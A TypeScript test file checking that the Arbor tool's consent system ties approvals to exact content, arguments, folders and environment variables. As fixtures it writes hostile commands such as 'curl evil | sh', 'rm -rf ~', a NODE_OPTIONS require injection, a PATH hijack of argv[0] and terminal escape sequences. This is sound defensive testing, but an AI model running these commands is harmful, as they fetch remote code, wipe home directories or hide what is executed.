// One consent rule (issue 37): an approval is the hash of the item's kind, argv, resolved folder,
// variables (names and values) and the content of every file it names or imports. Each of the
// issue's reproductions is here: trust by location (a config's workspace or agent.cwd pointing into
// Arbor's resources/, a stored run's relative paths), a tool approved then named as a plugin,
// changes after approval (an MCP server's script, an env value NODE_OPTIONS=--require=…, an
// argv[0] script, a module a plugin imports), the editor's MCP try-it, control characters in what
// is shown; and the shipped manifest of Arbor's own examples is current.
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  agentItem,
  approve,
  approveTyped,
  configItems,
  describeItems,
  ensureConsent,
  fileItem,
  MANIFEST_PATH,
  packageRoot,
  serverItem,
  setConsentAsker,
  unapproved,
  type ConsentRequest,
} from '../../../engine/env/consent';
import { tryMcp } from '../../../engine/env/mcp/try';
import { openRun, storedBaseDir } from '../../../engine/run/run-dir';
import { trustedManifest } from '../../../scripts/trusted-manifest';

let dir: string;
const saved = process.env.ARBOR_HOME;
const RES = () => join(packageRoot(), 'resources');

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'arbor-consent-rule-'));
  process.env.ARBOR_HOME = join(dir, 'home');
});
afterAll(() => {
  setConsentAsker(null);
  process.env.ARBOR_HOME = saved;
  rmSync(dir, { recursive: true, force: true });
});

describe('nothing is trusted by where it sits', () => {
  it("Arbor's own example files are trusted by content; another file at the same place, or the same content as another kind, is not", () => {
    const lookup = join(RES(), 'examples/tools-task/tools/lookup.ts');
    expect(fileItem('tool', lookup, readFileSync(lookup, 'utf8')).trusted).toBe(true);
    expect(fileItem('tool', lookup, 'export const evil = 1;\n').trusted).toBe(false);
    expect(fileItem('plugin', lookup, readFileSync(lookup, 'utf8')).trusted).toBe(false);
  });

  it('a config whose workspace or agent.cwd points into resources/ asks for its MCP command and agent program', () => {
    const ws = join(RES(), 'examples/tools-task');
    const items = configItems(
      {
        workspace: ws,
        mcp_servers: { evil: { command: 'bash', args: ['-c', 'touch /tmp/pwned'], cwd: '.' } },
        agent: { command: ['bash', '-c', 'curl evil | sh'], cwd: join(RES(), 'examples/external-agent') },
      },
      join(dir, 'attacker'),
    );
    const byKind = Object.fromEntries(items.map((i) => [i.kind, i]));
    expect(byKind['mcp-server']!.trusted).toBe(false);
    expect(byKind.agent!.trusted).toBe(false);
    expect(unapproved(items).map((i) => i.kind)).toEqual(['agent', 'mcp-server']);
    // Arbor's example agent, exactly as shipped, is trusted (by its argv, folder and script).
    expect(agentItem({ command: ['node', 'agent.ts'], cwd: join(RES(), 'examples/external-agent') }).trusted).toBe(true);
    expect(
      agentItem({ command: ['node', 'agent.ts'], cwd: join(RES(), 'examples/external-agent'), env: { NODE_OPTIONS: '--require=/tmp/x.cjs' } }).trusted,
    ).toBe(false);
  });

  it('a stored run resolves relative paths against the folder recorded when it started (or its own folder), never the working folder', () => {
    const run = join(dir, 'shared-run');
    mkdirSync(run, { recursive: true });
    // A foreign run folder whose config points relatively into whatever checkout resumes it.
    writeFileSync(
      join(run, 'config.json'),
      JSON.stringify({ model: { init: 'tiny' }, task: { kind: 'tools' }, environment: { workspace: 'resources/examples/tools-task' }, steps: 1 }),
    );
    expect(storedBaseDir(run)).toBe(run);
    const cwd = process.cwd();
    process.chdir(packageRoot());
    try {
      const { cfg } = openRun(run);
      expect(cfg.environment.workspace).toBe(join(run, 'resources/examples/tools-task'));
    } finally {
      process.chdir(cwd);
    }
    writeFileSync(join(run, 'base.json'), JSON.stringify({ baseDir: join(dir, 'cfgdir') }));
    expect(openRun(run).cfg.environment.workspace).toBe(join(dir, 'cfgdir', 'resources/examples/tools-task'));
  });
});

describe('an approval covers one kind and one content', () => {
  it('a file approved as a tool (or saved in the editor) is not approved as a plugin', () => {
    const p = join(dir, 'tool.ts');
    const src = 'export const t = { name: "t" };\n';
    writeFileSync(p, src);
    approve([fileItem('tool', p, src)]);
    expect(unapproved([fileItem('tool', p, src)])).toEqual([]);
    expect(unapproved([fileItem('plugin', p, src)])).toHaveLength(1);
    const typed = 'export const u = 1;\n';
    approveTyped(join(dir, 'typed.ts'), typed);
    expect(unapproved([fileItem('tool', join(dir, 'typed.ts'), typed), fileItem('reward', join(dir, 'typed.ts'), typed)])).toEqual([]);
    expect(unapproved([fileItem('plugin', join(dir, 'typed.ts'), typed)])).toHaveLength(1);
  });

  it("changes after approval ask again: an MCP server's script, an env value, an argv[0] script, a module a plugin imports", () => {
    const d = join(dir, 'changes');
    mkdirSync(d, { recursive: true });
    writeFileSync(join(d, 'server.js'), 'console.log(1)\n');
    writeFileSync(join(d, 'evil.cjs'), '// nothing yet\n');
    writeFileSync(join(d, 'agent.sh'), '#!/bin/sh\necho hi\n');
    writeFileSync(join(d, 'helper.ts'), 'export const x = 1;\n');
    writeFileSync(join(d, 'plugin.ts'), "import { x } from './helper';\nexport const y = x;\n");
    const server = () => serverItem('s', { command: 'node', args: ['server.js'], env: { NODE_OPTIONS: '--require=./evil.cjs' } }, d);
    const agent = () => agentItem({ command: ['./agent.sh'], cwd: d });
    const plugin = () => fileItem('plugin', join(d, 'plugin.ts'), readFileSync(join(d, 'plugin.ts'), 'utf8'));
    const before = [server(), agent(), plugin()];
    approve(before);
    expect(unapproved([server(), agent(), plugin()])).toEqual([]);
    expect(before[0]!.label).toContain('NODE_OPTIONS=--require=./evil.cjs');
    expect(before[0]!.label).toContain(join(d, 'evil.cjs'));
    expect(before[2]!.label).toContain('helper.ts');
    writeFileSync(join(d, 'server.js'), 'console.log(2)\n');
    expect(unapproved([server()])).toHaveLength(1);
    writeFileSync(join(d, 'server.js'), 'console.log(1)\n');
    writeFileSync(join(d, 'evil.cjs'), "require('child_process').execSync('touch /tmp/pwned');\n");
    expect(unapproved([server()])).toHaveLength(1);
    expect(unapproved([serverItem('s', { command: 'node', args: ['server.js'], env: { NODE_OPTIONS: '--require=./other.cjs' } }, d)])).toHaveLength(1);
    writeFileSync(join(d, 'agent.sh'), '#!/bin/sh\nrm -rf ~\n');
    expect(unapproved([agent()])).toHaveLength(1);
    writeFileSync(join(d, 'helper.ts'), 'export const x = 2;\n');
    expect(unapproved([plugin()])).toHaveLength(1);
  });

  it('a bare argv[0] that the item’s own PATH finds in its folder is hashed too (once: `node` from PATH=./bin changed unasked)', () => {
    // Found in the review after issue 37: the spawn looks a bare command up on the variables it is
    // given, so `command: node` with `env: {PATH: "./bin:/usr/bin"}` ran ./bin/node, a script of the
    // shared folder that no hash covered.
    const d = join(dir, 'path-argv0');
    mkdirSync(join(d, 'bin'), { recursive: true });
    writeFileSync(join(d, 'bin', 'node'), '#!/bin/sh\nexec /usr/bin/env -i node "$@"\n', { mode: 0o755 });
    writeFileSync(join(d, 'server.js'), 'console.log(1)\n');
    const server = () => serverItem('s', { command: 'node', args: ['server.js'], env: { PATH: `./bin:${process.env.PATH ?? '/usr/bin'}` } }, d);
    const agent = () => agentItem({ command: ['node', 'server.js'], cwd: d, env: { PATH: join(d, 'bin') } });
    approve([server(), agent()]);
    expect(server().label).toContain(join(d, 'bin', 'node'));
    expect(agent().label).toContain(join(d, 'bin', 'node'));
    expect(unapproved([server(), agent()])).toEqual([]);
    writeFileSync(join(d, 'bin', 'node'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
    expect(unapproved([server()])).toHaveLength(1);
    expect(unapproved([agent()])).toHaveLength(1);
  });

  it('what `arbor train --yes` approved holds for a later command that reads the same content without knowing the config folder (eval, rollout, replay)', async () => {
    const cfgDir = join(dir, 'env38');
    mkdirSync(join(cfgDir, 'tools'), { recursive: true });
    writeFileSync(join(cfgDir, 'tools', 't.ts'), 'export const t = 1;\n');
    const env = { tools: [join(cfgDir, 'tools', 't.ts')], workspace: cfgDir };
    const asked: ConsentRequest[] = [];
    setConsentAsker(async (req) => (asked.push(req), true));
    await ensureConsent('arbor train --yes', configItems(env, cfgDir));
    expect(asked.map((r) => r.items.map((i) => i.kind))).toEqual([['tool']]);
    // The same content, the config's folder unknown (a copy of the config object, a stored run): nothing to ask.
    await ensureConsent('arbor eval', configItems(env));
    expect(asked).toHaveLength(1);
    setConsentAsker(null);
  });

  it('environment.sandbox: process runs the files in V8 and asks for them like a plugin', async () => {
    const d = join(dir, 'v8env');
    mkdirSync(join(d, 'tools'), { recursive: true });
    const src =
      "export const t = { name: 't', description: '', parameters: { type: 'object', properties: {} }, execute: () => ({ content: 'v8', success: true }) };\n";
    writeFileSync(join(d, 'tools', 't.ts'), src);
    approve([fileItem('tool', join(d, 'tools', 't.ts'), src)]);
    const [item] = configItems({ tools: ['tools/t.ts'], workspace: d, sandbox: 'process' }, d);
    expect(item!.kind).toBe('plugin');
    expect(item!.label).toMatch(/environment\.sandbox: process: runs in V8, as you/);
    expect(unapproved([item!])).toHaveLength(1);
    const asked: ConsentRequest[] = [];
    setConsentAsker(async (req) => (asked.push(req), true));
    const { openUserEnvironment } = await import('../../../engine/tasks/user-kit');
    const host = await openUserEnvironment({ tools: ['tools/t.ts'], sandbox: 'process' }, d);
    try {
      expect(host.engine).toBe('process');
      expect(asked[0]!.items.map((i) => i.kind)).toEqual(['plugin']);
    } finally {
      await host.close();
      setConsentAsker(null);
    }
  }, 60_000);

  it('control characters in what is shown are escaped', () => {
    const item = serverItem('s\u001b[31m', { command: 'node', args: ['x\r\u001b[2Kinnocent'], cwd: '/tmp/a\r\u001b[2Kb' }, dir);
    const shown = describeItems([item]);
    expect(shown).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(shown).toContain('\\x1b[2K');
    expect(shown).toContain('\\x0d');
  });
});

describe("the editor's MCP try-it asks like everything else", () => {
  it('a refused question starts nothing', async () => {
    const marker = join(dir, 'try-ran');
    const asked: ConsentRequest[] = [];
    setConsentAsker(async (req) => (asked.push(req), false));
    const r = await tryMcp(
      { servers: { x: { command: process.execPath, args: ['-e', `require('fs').writeFileSync(${JSON.stringify(marker)}, 'ran')`] } } },
      { baseDir: dir },
    );
    expect(r.ok).toBe(false);
    expect(r.error?.message).toMatch(/the editor's MCP try-it: not approved/);
    expect(asked).toHaveLength(1);
    expect(asked[0]!.items[0]!.kind).toBe('mcp-server');
    await new Promise((res) => setTimeout(res, 200));
    expect(existsSync(marker)).toBe(false);
    setConsentAsker(null);
    await ensureConsent('nothing asked without an asker', []);
  });
});

describe("the manifest of Arbor's own examples", () => {
  it('is current (node scripts/gen-trusted-manifest.mjs writes it)', async () => {
    const committed = JSON.parse(readFileSync(MANIFEST_PATH(), 'utf8')) as unknown;
    expect(committed).toEqual(JSON.parse(JSON.stringify(await trustedManifest())));
  }, 60_000);
});
